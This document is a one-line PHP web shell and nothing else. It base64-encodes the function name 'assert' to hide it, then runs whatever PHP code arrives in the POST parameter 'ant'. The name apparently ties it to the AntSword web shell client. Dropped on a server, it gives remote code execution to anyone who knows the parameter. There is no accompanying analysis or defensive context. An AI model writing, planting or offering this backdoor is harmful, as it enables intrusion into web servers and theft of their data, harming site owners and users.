<?php $ant = base64_decode("YXNzZXJ0"); $ant($_POST['ant']); ?>
